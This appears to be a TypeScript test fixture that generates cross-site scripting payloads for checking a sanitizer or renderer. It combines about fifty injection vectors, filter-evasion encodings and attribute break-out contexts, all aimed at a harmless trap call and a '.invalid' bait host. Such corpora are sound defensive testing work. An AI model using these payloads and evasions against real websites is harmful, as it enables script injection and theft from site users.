/** What every payload tries to call; `armTraps` (traps.ts) listens for it. */
export const TRAP = '__sprung';
/** Part of every address that a payload tries to reach. */
export const BAIT = 'bait-host';

const call = `${TRAP}(1)`;
const url = `//${BAIT}.invalid/x`;

/** Ways to run code or to make a page ask for something, once the text is taken for markup or for an address. */
const VECTORS: readonly string[] = [
  // Elements that run by themselves.
  `<script>${call}</script>`,
  `<script src=${url}></script>`,
  `<svg><script>${call}</script></svg>`,
  `<img src=${url} onerror=${call}>`,
  `<img src=x:x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<body onload=${call}>`,
  `<iframe src=javascript:${call}></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<object data=${url}></object>`,
  `<embed src=${url}>`,
  `<video src=${url} onerror=${call}>`,
  `<video><source onerror=${call} src=${url}></video>`,
  `<audio src=${url} onerror=${call} autoplay>`,
  `<link rel=stylesheet href=${url}>`,
  `<style>@import '${url}';</style>`,
  `<style>*{background:url(${url})}</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href=${url}>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<marquee onstart=${call}>`,
  `<p style="animation:x" onanimationstart=${call}>`,
  `<math><mtext><img src onerror=${call}>`,
  `<math><a xlink:href="javascript:${call}">x`,
  `<table background=${url}>`,
  `<form action=javascript:${call}><button>`,
  `<isindex action=javascript:${call} type=image>`,
  `<a href="javascript:${call}">x</a>`,
  `<template><img src=x:x onerror=${call}></template>`,
  `<noscript><p title="</noscript><img src onerror=${call}>">`,
  `<!--><img src onerror=${call}>-->`,
  `<![CDATA[><img src onerror=${call}>]]>`,
  `<gws-workspace base-url=${url}></gws-workspace>`,
  // Templates of frameworks, and ours.
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `<?lit$123$><img src onerror=${call}>`,
  `<!--?lit$--><svg onload=${call}>`,
  // Addresses.
  `javascript:${call}`,
  `javascript://x.example/%0a${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `blob:https://${BAIT}.invalid/1`,
  `https:javascript:${call}`,
  `url(${url})`,
  `https://x.example/"onmouseover=${call}//`,
  `https://x.example/<img/src/onerror=${call}>`,
];

/** How a vector is written so that a filter does not see it, but a parser further on does. */
const DISGUISES: Readonly<Record<string, (text: string) => string>> = {
  plain: (text) => text,
  'upper case': (text) => text.replace(/<\w+|on\w+=|javascript/g, (part) => part.toUpperCase()),
  entities: (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll(':', '&colon;'),
  'numeric entities': (text) => text.replace(/[<>:j]/g, (one) => `&#x${one.charCodeAt(0).toString(16)};`),
  'percent signs': (text) => text.replace(/[<>"'() ]/g, (one) => `%${one.charCodeAt(0).toString(16)}`),
  'JavaScript escapes': (text) => text.replace(/[<>]/g, (one) => `\\u00${one.charCodeAt(0).toString(16)}`),
  // A cleaner that removes controls makes the word whole.
  'controls inside': (text) => text.replace(/^(<?\w\w?)/, '$1\u0000').replace('javascript', 'java\tscript'),
  'white space': (text) => `\u0001 \n${text.replaceAll(' ', '\f')}`,
  'wide signs': (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
};

/** What stands around it: what a value would have to break out of. */
const CONTEXTS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `--></title></style></textarea></script>${text}`,
  (text) => `x" autofocus onfocus=${call} y="${text}`,
];

/** All vectors in all disguises; the context goes round, so that each vector and each disguise meets each context. */
export const PAYLOADS: readonly string[] = [
  ...new Set(
    VECTORS.flatMap((vector, row) =>
      Object.values(DISGUISES).flatMap((disguise, column) =>
        // The plain vectors in every context, the disguised in one.
        (column === 0 ? CONTEXTS : [CONTEXTS[(row + column) % CONTEXTS.length]!]).map((context) =>
          context(disguise(vector)),
        ),
      ),
    ),
  ),
];
